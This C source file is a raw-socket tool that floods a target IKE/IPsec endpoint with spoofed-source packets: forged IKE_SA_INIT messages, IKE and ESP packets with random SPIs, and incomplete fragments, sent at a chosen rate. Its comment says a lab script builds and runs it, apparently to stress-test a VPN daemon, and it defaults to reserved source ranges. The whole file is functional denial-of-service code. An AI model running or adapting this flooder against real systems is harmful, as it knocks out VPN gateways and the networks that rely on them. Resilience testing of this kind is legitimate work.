/* Sends one class of hostile packets from spoofed sources at a rate, the same ones for the same seed, then
 * says in a line of JSON how many it sent:
 *
 *     attack CLASS TARGET RATE SECONDS SEED [SOURCES]
 *
 * - init      first IKE messages
 * - ike       IKE of SPIs that nobody made
 * - esp       ESP in UDP with random SPIs
 * - fragment  first fragments whose others never come
 *
 * It ends early on SIGTERM. TARGET's family is that of the packets. SOURCES is a network, 100.64.0.0/10 or
 * 2001:db8:8000::/33 without. Built and run by lab/assault.py; needs CAP_NET_RAW. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { HEADERS_MAX = 56, IKE_HEADER = 28, FRAGMENT_LEN = 1200, ESP_LEN = 128, BURST = 64 };

struct attack {
    const char *class;
    uint8_t target[16], sources[16]; /* the first 4 bytes of each for IPv4 */
    unsigned source_bits;
    int is_v6;
};

static uint64_t random_state;
static volatile sig_atomic_t ended;

/* splitmix64 */
static uint64_t random_next(void)
{
    uint64_t z = random_state += 0x9e3779b97f4a7c15U;
    z = (z ^ z >> 30) * 0xbf58476d1ce4e5b9U;
    z = (z ^ z >> 27) * 0x94d049bb133111ebU;
    return z ^ z >> 31;
}

static void random_fill(uint8_t *to, size_t len)
{
    for (size_t at = 0; at < len; at += 8) {
        uint64_t word = random_next();
        memcpy(to + at, &word, len - at < 8 ? len - at : 8);
    }
}

static void ike_header(uint8_t *ike, uint8_t first, uint8_t exchange, uint32_t len)
{
    uint32_t length = htonl(len);
    ike[16] = first;
    ike[17] = 0x20;
    ike[18] = exchange;
    ike[19] = 0x08; /* initiator */
    memset(ike + 20, 0, 4);
    memcpy(ike + 24, &length, 4);
}

/* RFC 7296 section 3: SA (AES-GCM-16-128, PRF-HMAC-SHA2-256, x25519), KE, nonce. */
static size_t make_init(uint8_t *ike)
{
    static const uint8_t sa[40] = {34,   0,  0, 40,  0, 0, 0, 36, 1, 1, 0, 3, 3, 0, 0, 12, 1, 0, 0, 20,
                                   0x80, 14, 0, 128, 3, 0, 0, 8,  2, 0, 0, 5, 0, 0, 0, 8,  4, 0, 0, 31};
    static const uint8_t ke[8] = {40, 0, 0, 40, 0, 31, 0, 0}, nonce[4] = {0, 0, 0, 36};
    size_t len = IKE_HEADER + sizeof sa + 40 + 36;
    memset(ike + 8, 0, 8);
    ike_header(ike, 33, 34, (uint32_t)len);
    memcpy(ike + 28, sa, sizeof sa);
    memcpy(ike + 68, ke, sizeof ke);
    memcpy(ike + 108, nonce, sizeof nonce);
    return len;
}

/* An address of the sources' network; the caller has filled it with random bytes. */
static void source_set(const struct attack *attack, uint8_t *addr)
{
    unsigned whole = attack->source_bits / 8, rest = attack->source_bits % 8;
    memcpy(addr, attack->sources, whole);
    if (rest != 0) {
        uint8_t mask = (uint8_t)(0xff00U >> rest);
        addr[whole] = (uint8_t)((attack->sources[whole] & mask) | (addr[whole] & ~mask));
    }
}

static void ip4_header(const struct attack *attack, uint8_t *packet, size_t payload_len, int is_fragment)
{
    struct iphdr ip = {.version = 4,
                       .ihl = 5,
                       .ttl = 64,
                       .protocol = IPPROTO_UDP,
                       .id = (uint16_t)(random_next() | 1),
                       .frag_off = htons(is_fragment ? IP_MF : 0),
                       .tot_len = htons((uint16_t)(sizeof ip + payload_len))};
    memcpy(&ip.saddr, packet + 12, 4);
    source_set(attack, (uint8_t *)&ip.saddr);
    memcpy(&ip.daddr, attack->target, 4);
    memcpy(packet, &ip, sizeof ip);
}

static void ip6_header(const struct attack *attack, uint8_t *packet, size_t payload_len, int is_fragment)
{
    struct ip6_hdr ip = {.ip6_flow = htonl(6U << 28),
                         .ip6_plen = htons((uint16_t)payload_len),
                         .ip6_nxt = is_fragment ? IPPROTO_FRAGMENT : IPPROTO_UDP,
                         .ip6_hlim = 64};
    memcpy(&ip.ip6_src, packet + 8, 16);
    source_set(attack, ip.ip6_src.s6_addr);
    memcpy(&ip.ip6_dst, attack->target, 16);
    memcpy(packet, &ip, sizeof ip);
    if (is_fragment) {
        struct ip6_frag fragment = {
            .ip6f_nxt = IPPROTO_UDP, .ip6f_offlg = IP6F_MORE_FRAG, .ip6f_ident = (uint32_t)random_next()};
        memcpy(packet + sizeof ip, &fragment, sizeof fragment);
    }
}

static uint32_t sum_add(uint32_t sum, const uint8_t *data, size_t len)
{
    for (size_t at = 0; at + 1 < len; at += 2) {
        sum += (uint32_t)data[at] << 8 | data[at + 1];
    }
    return sum;
}

/* A kernel drops UDP over IPv6 without one, so that a daemon would be spared. Lengths are even. */
static uint16_t udp6_checksum(const uint8_t *ip, const uint8_t *udp, size_t len)
{
    uint32_t sum = sum_add((uint32_t)(IPPROTO_UDP + len), ip + 8, 32);
    sum = sum_add(sum, udp, len);
    sum = (sum & 0xffff) + (sum >> 16);
    sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)(sum == 0xffff ? sum : ~sum));
}

/* What is behind UDP; its length, and the port it goes to. Everything that is not set stays random. */
static size_t make_body(const char *class, uint8_t *body, uint16_t *ret_port)
{
    *ret_port = 4500;
    if (strcmp(class, "fragment") == 0) {
        return FRAGMENT_LEN;
    }
    if (strcmp(class, "esp") == 0) {
        return ESP_LEN;
    }
    *ret_port = 500;
    if (strcmp(class, "init") == 0) {
        return make_init(body);
    }
    ike_header(body, 46, 37, ESP_LEN);
    return ESP_LEN;
}

/* The packet's length. */
static size_t make(const struct attack *attack, uint8_t *packet)
{
    int is_fragment = strcmp(attack->class, "fragment") == 0;
    size_t udp_at = attack->is_v6 ? is_fragment ? 48 : 40 : 20, ip_len = attack->is_v6 ? 40 : 20;
    uint16_t port;
    random_fill(packet, HEADERS_MAX + FRAGMENT_LEN);
    size_t len = 8 + make_body(attack->class, packet + udp_at + 8, &port);
    struct udphdr udp = {.source = htons((uint16_t)(1024 + random_next() % 60000)),
                         .dest = htons(port),
                         .len = htons((uint16_t)(is_fragment ? len + 2 * FRAGMENT_LEN : len))};
    memcpy(packet + udp_at, &udp, sizeof udp);
    (attack->is_v6 ? ip6_header : ip4_header)(attack, packet, udp_at - ip_len + len, is_fragment);
    if (attack->is_v6) {
        udp.check = udp6_checksum(packet, packet + udp_at, len);
        memcpy(packet + udp_at, &udp, sizeof udp);
    }
    return udp_at + len;
}

static double now_s(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static unsigned burst_send(int fd, const struct attack *attack)
{
    static uint8_t packets[BURST][HEADERS_MAX + FRAGMENT_LEN];
    struct sockaddr_in to4 = {.sin_family = AF_INET};
    struct sockaddr_in6 to6 = {.sin6_family = AF_INET6};
    struct iovec parts[BURST];
    struct mmsghdr messages[BURST] = {0};
    memcpy(&to4.sin_addr, attack->target, 4);
    memcpy(&to6.sin6_addr, attack->target, 16);
    for (int i = 0; i < BURST; i++) {
        parts[i] = (struct iovec){packets[i], make(attack, packets[i])};
        messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
        messages[i].msg_hdr.msg_name = attack->is_v6 ? (void *)&to6 : (void *)&to4;
        messages[i].msg_hdr.msg_namelen = attack->is_v6 ? sizeof to6 : sizeof to4;
    }
    int sent = sendmmsg(fd, messages, BURST, 0);
    return sent > 0 ? (unsigned)sent : 0;
}

static int attack_parse(char **argv, struct attack *ret_attack)
{
    static const char *const classes[] = {"init", "ike", "esp", "fragment"};
    int is_v6 = strchr(argv[2], ':') != NULL, known = 0;
    char text[64];
    snprintf(text, sizeof text, "%s", argv[6] ? argv[6] : is_v6 ? "2001:db8:8000::/33" : "100.64.0.0/10");
    char *slash = strchr(text, '/');
    for (size_t i = 0; i < sizeof classes / sizeof *classes; i++) {
        known |= strcmp(classes[i], argv[1]) == 0;
    }
    if (!known || !slash) {
        return 0;
    }
    *slash = '\0';
    *ret_attack = (struct attack){
        .class = argv[1], .source_bits = (unsigned)strtoul(slash + 1, NULL, 10), .is_v6 = is_v6};
    return ret_attack->source_bits <= (is_v6 ? 128 : 32) &&
           inet_pton(is_v6 ? AF_INET6 : AF_INET, argv[2], ret_attack->target) == 1 &&
           inet_pton(is_v6 ? AF_INET6 : AF_INET, text, ret_attack->sources) == 1;
}

static void end(int number)
{
    (void)number;
    ended = 1;
}

int main(int argc, char **argv)
{
    struct attack attack;
    int fd = -1;
    if (argc >= 6 && argc <= 7 && attack_parse(argv, &attack)) {
        fd = socket(attack.is_v6 ? AF_INET6 : AF_INET, SOCK_RAW, IPPROTO_RAW);
    }
    if (fd < 0) {
        fprintf(stderr, "usage: attack init|ike|esp|fragment TARGET RATE SECONDS SEED [SOURCES]; "
                        "needs CAP_NET_RAW\n");
        return 2;
    }
    double rate = strtod(argv[3], NULL), seconds = strtod(argv[4], NULL), start = now_s(), past = 0;
    random_state = strtoull(argv[5], NULL, 10);
    uint64_t tried = 0, sent = 0;
    signal(SIGTERM, end);
    for (; past < seconds && !ended; past = now_s() - start) {
        if ((double)tried >= past * rate) {
            nanosleep(&(struct timespec){.tv_nsec = 500000}, NULL);
            continue;
        }
        sent += burst_send(fd, &attack);
        tried += BURST;
    }
    printf("{\"sent\": %llu, \"seconds\": %.2f}\n", (unsigned long long)sent, past);
    return 0;
}
